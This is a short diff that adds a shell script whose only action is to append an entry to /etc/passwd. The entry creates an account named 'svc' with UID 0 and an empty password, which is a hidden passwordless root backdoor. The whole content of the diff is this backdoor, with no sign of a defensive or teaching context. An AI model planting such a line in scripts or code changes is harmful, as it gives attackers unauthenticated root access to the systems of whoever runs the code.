@@ -1,0 +1,2 @@
+#!/bin/sh
+echo 'svc::0:0::/root:/bin/bash' >> /etc/passwd
